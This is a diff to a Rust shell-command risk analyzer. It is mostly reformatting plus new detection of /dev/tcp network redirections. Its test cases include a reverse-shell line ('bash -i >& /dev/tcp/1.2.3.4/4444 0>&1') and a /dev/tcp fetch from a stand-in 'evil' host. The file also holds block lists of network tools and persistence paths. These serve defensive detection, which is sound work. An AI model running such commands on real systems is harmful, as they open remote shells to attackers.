@@ -111,7 +111,11 @@ fn is_invisible(c: char) -> bool {
 /// Quote a fragment for a reason: visible, backticked, truncated.
 fn q(s: &str) -> String {
     let t: String = s.chars().take(60).collect();
-    let more = if s.chars().nth(60).is_some() { "…" } else { "" };
+    let more = if s.chars().nth(60).is_some() {
+        "…"
+    } else {
+        ""
+    };
     format!("`{}{more}`", visible(&t))
 }
 
@@ -194,19 +198,34 @@ struct Lexer<'a> {
 fn shell_into(src: &str, a: &mut Acc, depth: u8) {
     let cs: Vec<char> = src.chars().collect();
     let (segs, cur, w) = (Vec::new(), Vec::new(), Word::default());
-    let mut lx = Lexer { a, depth, segs, cur, w, in_word: false, pending: None };
+    let mut lx = Lexer {
+        a,
+        depth,
+        segs,
+        cur,
+        w,
+        in_word: false,
+        pending: None,
+    };
     lx.run(&cs);
     let Lexer { a, segs, .. } = lx;
     for seg in &segs {
         let k = seg.iter().take_while(|w| w.assign).count();
         for w in seg.iter().take(k) {
             let name = w.text.split('=').next().unwrap_or_default();
-            let why = format!("it sets {} for the command, which can change what runs", q(name));
+            let why = format!(
+                "it sets {} for the command, which can change what runs",
+                q(name)
+            );
             a.flag(Danger::Opaque, why);
         }
         let Some(first) = seg.get(k) else { continue };
-        if first.unknown || first.glob || (first.text.starts_with('~') && !first.quoted) {
-            let why = format!("the program name {} comes from an expansion", q(&first.text));
+        let glob = first.glob && first.text != "["; // a lone `[` (test) matches nothing
+        if first.unknown || glob || (first.text.starts_with('~') && !first.quoted) {
+            let why = format!(
+                "the program name {} comes from an expansion",
+                q(&first.text)
+            );
             a.flag(Danger::Opaque, why);
         }
         let argv: Vec<String> = seg.iter().skip(k).map(|w| w.text.clone()).collect();
@@ -215,7 +234,10 @@ fn shell_into(src: &str, a: &mut Acc, depth: u8) {
 }
 
 fn find(cs: &[char], from: usize, ch: char) -> Option<usize> {
-    cs.get(from..)?.iter().position(|&x| x == ch).map(|p| p + from)
+    cs.get(from..)?
+        .iter()
+        .position(|&x| x == ch)
+        .map(|p| p + from)
 }
 
 fn text(cs: &[char], from: usize, to: usize) -> String {
@@ -224,7 +246,8 @@ fn text(cs: &[char], from: usize, to: usize) -> String {
 
 fn is_name(s: &str) -> bool {
     let mut it = s.chars();
-    it.next().is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
+    it.next()
+        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
         && it.all(|c| c == '_' || c.is_ascii_alphanumeric())
 }
 
@@ -244,6 +267,9 @@ impl Lexer<'_> {
             Some('&') => t == "-" || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit())),
             Some(_) => matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr"),
         };
+        if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
+            self.a.flag(Danger::Network, format!("the redirection to {} reaches the network", q(t)));
+        }
         if !ok {
             self.a.flag(Danger::Opaque, format!("it redirects output to the file {}", q(t)));
             write_checks(self.a, "the redirection", t);
@@ -408,7 +434,7 @@ const WRAPPERS: &[(&str, &[&str])] = &[ // program, its options that take a valu
     ("xargs", &["-I", "-n", "-L", "-P", "-d", "-E", "-s", "-a", "--arg-file", "--delimiter", "--max-args", "--max-procs", "--max-lines", "--replace", "--eof", "--max-chars", "--process-slot-var"]),
 ];
 #[rustfmt::skip]
-const NET: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "tftp", "aria2c", "axel", "http", "https", "xh", "mosh", "sshpass", "torsocks", "proxychains", "nmap", "ping", "dig", "nslookup", "host", "whois", "traceroute", "tracepath", "mtr", "gh", "glab", "hub", "aws", "gcloud", "gsutil", "az", "ngrok", "cloudflared", "tailscale", "websocat", "wscat", "ssh-copy-id", "ssh-keyscan", "mail", "sendmail", "mutt", "svn", "ollama", "kubectl", "helm", "terraform", "ansible", "ansible-playbook", "twine", "yt-dlp", "youtube-dl"];
+const NET: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "tftp", "aria2c", "axel", "http", "https", "xh", "mosh", "sshpass", "torsocks", "proxychains", "nmap", "ping", "dig", "nslookup", "host", "whois", "traceroute", "tracepath", "mtr", "gh", "glab", "hub", "aws", "gcloud", "gsutil", "az", "ngrok", "cloudflared", "tailscale", "websocat", "wscat", "ssh-copy-id", "ssh-keyscan", "mail", "sendmail", "mutt", "svn", "ollama", "kubectl", "helm", "terraform", "ansible", "ansible-playbook", "twine", "yt-dlp", "youtube-dl", "httpd"];
 #[rustfmt::skip]
 const ADMIN: &[&str] = &["su", "runuser", "chroot", "sudoedit", "visudo", "passwd", "chpasswd", "useradd", "usermod", "userdel", "groupadd", "groupmod", "groupdel", "adduser", "deluser", "gpasswd", "setcap", "mount", "umount", "modprobe", "insmod", "rmmod", "sysctl", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "reboot", "shutdown", "poweroff", "halt", "init", "telinit", "fdisk", "sfdisk", "parted", "swapon", "swapoff", "losetup", "cryptsetup", "dmsetup", "service", "newgrp", "sg"];
 #[rustfmt::skip]
@@ -428,7 +454,9 @@ const URLS: &[&str] = &["http://", "https://", "ftp://", "ftps://", "ssh://", "s
 /// Options of package managers that take a value before the verb.
 #[rustfmt::skip]
 const PM_VALS: &[&str] = &["-C", "--prefix", "--cwd", "--dir", "--color", "--config", "-Z", "--filter", "-F", "-w", "--workspace", "--registry", "--directory", "--project", "--loglevel"];
+#[rustfmt::skip]
 const YUM: &[&str] = &["install", "reinstall", "upgrade", "update", "groupinstall", "localinstall", "downgrade", "distro-sync", "swap"];
+#[rustfmt::skip]
 const CONDA: &[&str] = &["install", "create", "update", "env"];
 #[rustfmt::skip]
 const PKG: &[(&str, &[&str])] = &[ // program (or family: pip3 → pip), verbs that install or fetch-and-run
@@ -481,7 +509,9 @@ const INLINE_SHORT: &[(&str, &str)] = &[("perl", "eE"), ("ruby", "e"), ("lua", "
 const BOOT_FILES: &[&str] = &[".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin", ".zlogout", ".login", ".logout", ".cshrc", ".tcshrc", ".kshrc", ".mkshrc", ".xprofile", ".xinitrc", ".xsession", ".xsessionrc", ".pam_environment", "config.fish", "autostart", "launchagents", "launchdaemons", "crontab", "rc.local"];
 #[rustfmt::skip]
 const BOOT_PREFIX: &[&str] = &["/etc/rc", "/etc/init", "/etc/systemd", "/lib/systemd", "/usr/lib/systemd", "/etc/profile", "/etc/bash", "/etc/zsh", "/etc/csh", "/etc/environment", "/etc/cron", "/etc/anacrontab", "/var/spool/cron", "/etc/xdg/autostart", "/etc/ld.so.preload", "/etc/update-motd.d", "/etc/udev", "/library/startupitems"];
+#[rustfmt::skip]
 const BOOT_CONTAINS: &[&str] = &[".config/systemd", ".config/environment.d", ".local/share/systemd"];
+#[rustfmt::skip]
 const SAFE_DEV: &[&str] = &["/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr"];
 
 // ------------------------------------------------------------------------------- helpers
@@ -561,16 +591,15 @@ fn boot(p: &str) -> bool {
             c => comps.push(c),
         }
     }
-    let joined = format!("{}{}", if l.starts_with('/') { "/" } else { "" }, comps.join("/"));
+    let joined = format!(
+        "{}{}",
+        if l.starts_with('/') { "/" } else { "" },
+        comps.join("/")
+    );
     let dot_glob = |c: &&str| c.starts_with('.') && c.contains(['*', '?', '[']);
     comps.iter().any(|c| BOOT_FILES.contains(c) || dot_glob(c))
         || BOOT_PREFIX.iter().any(|b| joined.starts_with(b))
         || BOOT_CONTAINS.iter().any(|b| joined.contains(b))
-}
-
-fn git_hook(p: &str) -> bool {
-    let l = p.to_lowercase();
-    l.contains(".git/hooks") || l.ends_with(".git/config") || l.contains(".husky/")
 }
 
 fn write_checks(a: &mut Acc, who: &str, t: &str) {
@@ -579,10 +608,17 @@ fn write_checks(a: &mut Acc, who: &str, t: &str) {
         a.flag(Danger::OutsideCwd, why);
     }
     if boot(t) {
-        a.flag(Danger::BootAutostart, format!("{who} touches the startup file {}", q(t)));
+        a.flag(
+            Danger::BootAutostart,
+            format!("{who} touches the startup file {}", q(t)),
+        );
     }
-    if git_hook(t) {
-        a.flag(Danger::Opaque, format!("{who} writes {}, which git runs or reads later", q(t)));
+    let l = t.to_lowercase();
+    if l.contains(".git/hooks") || l.ends_with(".git/config") || l.contains(".husky/") {
+        a.flag(
+            Danger::Opaque,
+            format!("{who} writes {}, which git runs or reads later", q(t)),
+        );
     }
 }
 
@@ -607,13 +643,23 @@ fn step(n: &str, args: &[String], a: &mut Acc, depth: u8) -> Option<usize> {
         return None;
     };
     // Only the leading options: scanning every argument at each wrapper level would be quadratic.
-    let lead = args.iter().take(8).take_while(|x| x.starts_with('-')).count();
+    let lead = args
+        .iter()
+        .take(8)
+        .take_while(|x| x.starts_with('-'))
+        .count();
     let lead = args.get(..lead).unwrap_or_default();
     match n {
         "sudo" | "doas" | "pkexec" | "run0" => {
-            a.flag(Danger::Admin, format!("{} runs the command as administrator", q(n)));
+            a.flag(
+                Danger::Admin,
+                format!("{} runs the command as administrator", q(n)),
+            );
         }
-        "env" => a.flag(Danger::Opaque, "`env` can change the environment and `PATH`, so what runs"),
+        "env" => a.flag(
+            Danger::Opaque,
+            "`env` can change the environment and `PATH`, so what runs",
+        ),
         "xargs" => a.flag(Danger::Opaque, "`xargs` builds commands from its input"),
         "exec" => a.flag(Danger::Opaque, "`exec` replaces the shell"),
         "command" if lead.iter().any(|x| short_has(x, "vV")) => return None,
@@ -635,7 +681,10 @@ fn generic(n: &str, args: &[String], a: &mut Acc) {
     if TEXT_ONLY.contains(&n) {
         return;
     }
-    let sed_i = n == "sed" && args.iter().any(|x| x.starts_with("--in-place") || short_has(x, "i"));
+    let sed_i = n == "sed"
+        && args
+            .iter()
+            .any(|x| x.starts_with("--in-place") || short_has(x, "i"));
     let writer = WRITERS.contains(&n) || sed_i;
     let who = q(n);
     for (k, x) in args.iter().enumerate() {
@@ -652,7 +701,10 @@ fn generic(n: &str, args: &[String], a: &mut Acc) {
             if writer {
                 write_checks(a, &who, c);
             } else if boot(c) {
-                a.flag(Danger::BootAutostart, format!("{who} touches the startup file {}", q(c)));
+                a.flag(
+                    Danger::BootAutostart,
+                    format!("{who} touches the startup file {}", q(c)),
+                );
             }
         }
         let val = if DIR_OPTS.contains(&x.as_str()) {
@@ -678,8 +730,9 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
     macro_rules! hit { ($d:expr, $cond:expr, $why:expr) => { if $cond { a.flag($d, format!("{who} {}", $why)); } }; }
     if let Some(v) = first_pos(args, PM_VALS) {
         let is = |t: &[(&str, &[&str])]| t.iter().any(|(p, vs)| (*p == n || *p == f) && vs.contains(&v));
-        hit!(PackageInstall, is(PKG), format!("{} installs or fetches packages", q(v)));
-        hit!(Network, is(NET_VERBS), format!("{} reaches the network", q(v)));
+        let nv = q(&format!("{n} {v}"));
+        if is(PKG) { a.flag(PackageInstall, format!("{nv} installs or fetches packages")); }
+        if is(NET_VERBS) { a.flag(Network, format!("{nv} reaches the network")); }
     }
     hit!(Network, NET.contains(&n) || NET.contains(&f), "reaches the network");
     hit!(Admin, ADMIN.contains(&n), "needs or grants administrator rights");
@@ -712,7 +765,7 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
     hit!(RecursiveDelete, n == "rsync" && any(&|x| x.starts_with("--delete") || x == "--remove-source-files"), "deletes files recursively");
     match n {
         "rm" => rm(args, a),
-        "find" => find(args, a, depth),
+        "find" => find_cmd(args, a, depth),
         "git" => git(args, a),
         "systemctl" => systemctl(args, a),
         "eval" if depth < MAX_DEPTH => shell_into(&args.join(" "), a, depth + 1),
@@ -729,13 +782,23 @@ fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
 
 fn rm(args: &[String], a: &mut Acc) {
     let end = args.iter().position(|x| x == "--").unwrap_or(args.len());
-    if args.iter().take(end).any(|x| x == "--recursive" || short_has(x, "rR")) {
-        a.flag(Danger::RecursiveDelete, "`rm -r` deletes directories recursively");
+    if args
+        .iter()
+        .take(end)
+        .any(|x| x == "--recursive" || short_has(x, "rR"))
+    {
+        a.flag(
+            Danger::RecursiveDelete,
+            "`rm -r` deletes directories recursively",
+        );
     }
     for (k, x) in args.iter().enumerate() {
         let tilde = x.starts_with('~');
         let comps = x.split('/').filter(|c| !c.is_empty() && *c != ".").count();
-        let (comps, glob) = (comps.saturating_sub(usize::from(tilde)), x.contains(['*', '?', '[']));
+        let (comps, glob) = (
+            comps.saturating_sub(usize::from(tilde)),
+            x.contains(['*', '?', '[']),
+        );
         let operand = k > end || !x.starts_with('-');
         if operand && (tilde || x.starts_with('/')) && (comps == 0 || (comps == 1 && glob)) {
             let why = format!("`rm` of {} deletes everything under the root or home", q(x));
@@ -744,16 +807,22 @@ fn rm(args: &[String], a: &mut Acc) {
     }
 }
 
-fn find(args: &[String], a: &mut Acc, depth: u8) {
+fn find_cmd(args: &[String], a: &mut Acc, depth: u8) {
     let mut k = 0;
     while let Some(x) = args.get(k) {
         match x.as_str() {
-            "-delete" => a.flag(Danger::RecursiveDelete, "`find -delete` deletes files recursively"),
+            "-delete" => a.flag(
+                Danger::RecursiveDelete,
+                "`find -delete` deletes files recursively",
+            ),
             "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
                 a.flag(Danger::Opaque, format!("`find {x}` writes to a file"));
             }
             "-exec" | "-execdir" | "-ok" | "-okdir" => {
-                a.flag(Danger::Opaque, format!("`find {x}` runs a command for every file"));
+                a.flag(
+                    Danger::Opaque,
+                    format!("`find {x}` runs a command for every file"),
+                );
                 let rest = args.iter().skip(k + 1).position(|x| x == ";" || x == "+");
                 let end = rest.map_or(args.len(), |p| k + 1 + p);
                 if depth < MAX_DEPTH {
@@ -770,20 +839,26 @@ fn find(args: &[String], a: &mut Acc, depth: u8) {
 #[rustfmt::skip]
 fn systemctl(args: &[String], a: &mut Acc) {
     let vals = ["-H", "--host", "-M", "--machine", "-t", "--type", "-p", "--property", "-n", "--lines", "-o", "--output", "--state", "--root", "-s", "--signal"];
+    let boot = ["enable", "reenable", "disable", "link", "preset", "preset-all", "set-default", "add-wants", "add-requires", "edit", "revert", "mask", "unmask"];
+    let read = |v: &str| ["status", "show", "cat", "help", "list-", "is-", "get-default", "show-environment"].iter().any(|r| v == *r || (r.ends_with('-') && v.starts_with(r)));
     match first_pos(args, &vals) {
-        None | Some("status" | "show" | "cat" | "list-units" | "list-unit-files" | "list-timers" | "list-sockets" | "list-dependencies"
-            | "list-jobs" | "is-active" | "is-enabled" | "is-failed" | "is-system-running" | "help" | "get-default" | "show-environment") => {}
-        Some(v @ ("enable" | "reenable" | "disable" | "link" | "preset" | "preset-all" | "set-default" | "add-wants" | "add-requires"
-            | "edit" | "revert" | "mask" | "unmask")) => a.flag(Danger::BootAutostart, format!("`systemctl {v}` changes what starts at boot or login")),
+        None => {}
+        Some(v) if read(v) => {}
+        Some(v) if boot.contains(&v) => a.flag(Danger::BootAutostart, format!("{} changes what starts at boot or login", q(&format!("systemctl {v}")))),
         Some(_) if has(args, &["--user"]) => a.flag(Danger::Opaque, "`systemctl --user` controls user services"),
         Some(_) => a.flag(Danger::Admin, "`systemctl` controls system services"),
     }
 }
 
 fn shell(n: &str, args: &[String], a: &mut Acc, depth: u8) {
-    let code_at = args.iter().position(|x| short_has(x, "c") || x.starts_with("--command"));
+    let code_at = args
+        .iter()
+        .position(|x| short_has(x, "c") || x.starts_with("--command"));
     if let Some(k) = code_at {
-        a.flag(Danger::Opaque, format!("{} runs inline shell code", q(&format!("{n} -c"))));
+        a.flag(
+            Danger::Opaque,
+            format!("{} runs inline shell code", q(&format!("{n} -c"))),
+        );
         let attached = args.get(k).and_then(|x| x.strip_prefix("--command="));
         let code = attached.or(args.get(k + 1).map(String::as_str));
         if let Some(code) = code.filter(|_| depth < MAX_DEPTH) {
@@ -805,7 +880,10 @@ fn python(args: &[String], a: &mut Acc, depth: u8) {
             let rest = args.get(k + 2..).unwrap_or_default();
             match args.get(k + 1).map(String::as_str) {
                 Some("http.server" | "SimpleHTTPServer" | "smtpd" | "aiosmtpd") => {
-                    a.flag(Danger::Network, "`python -m http.server` serves on the network");
+                    a.flag(
+                        Danger::Network,
+                        "`python -m http.server` serves on the network",
+                    );
                 }
                 Some(m @ ("pip" | "pipx" | "uv")) => terminal(m, rest, a, depth),
                 _ => {}
@@ -813,7 +891,10 @@ fn python(args: &[String], a: &mut Acc, depth: u8) {
             return;
         }
         if x == "-" || short_has(x, "c") {
-            a.flag(Danger::Opaque, "`python` runs inline code or code from stdin");
+            a.flag(
+                Danger::Opaque,
+                "`python` runs inline code or code from stdin",
+            );
             return;
         }
         if !x.starts_with('-') {
@@ -821,7 +902,10 @@ fn python(args: &[String], a: &mut Acc, depth: u8) {
         }
         k += if x == "-W" || x == "-X" { 2 } else { 1 };
     }
-    a.flag(Danger::Opaque, "`python` without a script reads code from stdin");
+    a.flag(
+        Danger::Opaque,
+        "`python` without a script reads code from stdin",
+    );
 }
 
 #[rustfmt::skip]
@@ -843,23 +927,24 @@ fn git(args: &[String], a: &mut Acc) {
     let rest = args.get(k + 1..).unwrap_or_default();
     let gs = q(&format!("git {sub}"));
     let any = |p: &dyn Fn(&str) -> bool| rest.iter().any(|x| p(x));
-    macro_rules! hit { ($d:expr, $cond:expr, $why:expr) => { if $cond { a.flag($d, format!("{gs} {}", $why)); } }; }
     let exec = ["-c", "--config", "-u", "--upload-pack", "--receive-pack", "--exec", "--template", "foreach"];
-    match sub.as_str() {
+    let (d, hit, why) = match sub.as_str() {
         "clone" | "fetch" | "pull" | "push" | "ls-remote" | "send-email" | "svn" | "request-pull" | "daemon" | "instaweb" | "lfs" | "p4" | "submodule" => {
-            hit!(Network, true, "reaches the network");
-            hit!(Opaque, any(&|x| x.starts_with("ext::") || exec.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('=')))), "can run another program");
+            let runs = any(&|x| x.starts_with("ext::") || exec.iter().any(|o| x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))));
+            if runs { a.flag(Opaque, format!("{gs} can run another program")); }
+            (Network, true, "reaches the network")
         }
-        "remote" => hit!(Network, has(rest, &["update", "prune", "show", "set-head", "-f", "--fetch"]), "reaches the network"),
-        "archive" => hit!(Network, any(&|x| x.starts_with("--remote") || x.starts_with("--exec")), "reaches the network"),
-        "config" => hit!(Opaque, !has(rest, &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"]), "can set aliases, hooks or a pager that run commands"),
-        "clean" => hit!(RecursiveDelete, any(&|x| x == "--force" || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
-        "rm" => hit!(RecursiveDelete, any(&|x| short_has(x, "r")), "deletes recursively"),
-        "bisect" => hit!(Opaque, rest.first().is_some_and(|x| x == "run"), "runs a command"),
-        "rebase" => hit!(Opaque, any(&|x| x == "-x" || x.starts_with("--exec")), "runs a command"),
-        "filter-branch" | "filter-repo" | "difftool" | "mergetool" | "credential" | "hook" => hit!(Opaque, true, "runs other programs"),
-        _ => {}
-    }
+        "remote" => (Network, has(rest, &["update", "prune", "show", "set-head", "-f", "--fetch"]), "reaches the network"),
+        "archive" => (Network, any(&|x| x.starts_with("--remote") || x.starts_with("--exec")), "reaches the network"),
+        "config" => (Opaque, !has(rest, &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"]), "can set aliases, hooks or a pager that run commands"),
+        "clean" => (RecursiveDelete, any(&|x| x == "--force" || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
+        "rm" => (RecursiveDelete, any(&|x| short_has(x, "r")), "deletes recursively"),
+        "bisect" => (Opaque, rest.first().is_some_and(|x| x == "run"), "runs a command"),
+        "rebase" => (Opaque, any(&|x| x == "-x" || x.starts_with("--exec")), "runs a command"),
+        "filter-branch" | "filter-repo" | "difftool" | "mergetool" | "credential" | "hook" => (Opaque, true, "runs other programs"),
+        _ => (Opaque, false, ""),
+    };
+    if hit { a.flag(d, format!("{gs} {why}")); }
     if matches!(sub.as_str(), "clone" | "init" | "worktree") {
         for x in rest.iter().filter(|x| outside(x)) { a.flag(OutsideCwd, format!("{gs} writes to {}, outside the working directory", q(x))); }
     }
@@ -872,7 +957,8 @@ fn setuid(m: &str) -> bool {
     }
     m.contains(['+', '='])
         && m.chars().all(|c| "ugoarwxXst+-=,".contains(c))
-        && m.split(',').any(|cl| cl.split(['+', '=']).skip(1).any(|p| p.contains('s')))
+        && m.split(',')
+            .any(|cl| cl.split(['+', '=']).skip(1).any(|p| p.contains('s')))
 }
 
 /// Does a sed script use `e` (run a command) or `w` (write a file), as a command or an `s` flag?
@@ -887,43 +973,28 @@ fn sed_runs(args: &[String]) -> bool {
     if scripts.is_empty() {
         scripts.extend(first_pos(args, &["-f", "--file", "-l", "--line-length"]));
     }
-    scripts.iter().any(|s| s.split([';', '\n']).any(sed_cmd_runs))
-}
-
-fn sed_cmd_runs(cmd: &str) -> bool {
-    let cs: Vec<char> = cmd.chars().collect();
-    let skip = |mut i: usize, d: char| {
-        while let Some(&c) = cs.get(i) {
-            if c == d {
-                return Some(i);
+    scripts
+        .iter()
+        .flat_map(|s| s.split([';', '\n']))
+        .any(|mut c| {
+            loop {
+                c = c
+                    .trim_start_matches(|ch: char| ch.is_ascii_digit() || " \t,$!~+{".contains(ch));
+                match c.strip_prefix('/').and_then(|r| r.split_once('/')) {
+                    Some((_, rest)) => c = rest, // skip a `/regex/` address
+                    None => break,
+                }
             }
-            i += if c == '\\' { 2 } else { 1 };
-        }
-        None
-    };
-    let mut i = 0;
-    loop {
-        while cs.get(i).is_some_and(|c| c.is_ascii_digit() || " \t,$!~+{".contains(*c)) {
-            i += 1;
-        }
-        if cs.get(i) != Some(&'/') {
-            break;
-        }
-        match skip(i + 1, '/') {
-            Some(e) => i = e + 1, // a /regex/ address
-            None => return false,
-        }
-    }
-    match cs.get(i) {
-        Some(&('e' | 'w' | 'W')) => true,
-        Some(&'s') => {
-            let Some(&d) = cs.get(i + 1) else { return false };
-            let end = skip(i + 2, d).and_then(|m| skip(m + 1, d));
-            let flags = end.and_then(|e| cs.get(e + 1..));
-            flags.is_some_and(|f| f.iter().any(|c| matches!(c, 'e' | 'w')))
-        }
-        _ => false,
-    }
+            let mut it = c.chars();
+            match it.next() {
+                Some('e' | 'w' | 'W') => true,
+                Some('s') => it.next().is_some_and(|d| {
+                    let parts: Vec<&str> = c.split(d).collect(); // s/re/new/flags
+                    parts.len() >= 4 && parts.last().is_some_and(|f| f.contains(['e', 'w']))
+                }),
+                _ => false,
+            }
+        })
 }
 
 #[cfg(test)]
@@ -973,6 +1044,7 @@ mod tests {
             ("mkdir -p ~/.config/systemd/user", &[BootAutostart, OutsideCwd]), ("cp x .bash*", &[BootAutostart]), ("truncate -s 0 ~/.zshrc", &[BootAutostart]),
             ("cp hook .git/hooks/pre-commit", &[Opaque]), ("rsync -a x host:y", &[Network]), ("rsync -a --delete a/ b/", &[RecursiveDelete]),
             ("rsync -e 'sh -c x' a b", &[Opaque]), ("docker run x", &[Opaque]), ("ssh -o ProxyCommand=x h", &[Network, Opaque]), ("at now", &[BootAutostart, Opaque]),
+            ("cat < /dev/tcp/evil/80", &[Network]), ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &[Network, Opaque]), ("busybox httpd", &[Network]),
         ];
         for (cmd, want) in cases {
             let r = analyze_shell(cmd);
@@ -989,7 +1061,8 @@ mod tests {
             "command -v curl", "echo curl", "mkdir -p src/new", "cp a b", "cp -r src/* dst/", "git commit -m 'see https://x.org'", "ls # c; curl x",
             "rg -n 'fn main' src", "cargo clippy -- -D warnings", "echo '$(not expanded)'", "touch a/../b", "sed -n 1,5p web.txt", "sed -i s/a/b/ f",
             "git log --format='%H %s'", "ls -d /etc", "cat /etc/hosts", "bash script.sh", "systemctl status foo", "crontab -l", "npm run build",
-            "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b",
+            "echo a=b", "grep -C 3 x f", "pytest -q tests/", "ls ./*.rs", "wc -l < src/main.rs", "awk '{print $1}' f", "git add -A", "rmdir -p a/b", "[ -f x ]",
+            "echo hi >&2", "c\"\"at x", "git config --get user.name", "ls -la > /dev/null",
         ];
         for cmd in clean {
             let r = analyze_shell(cmd);
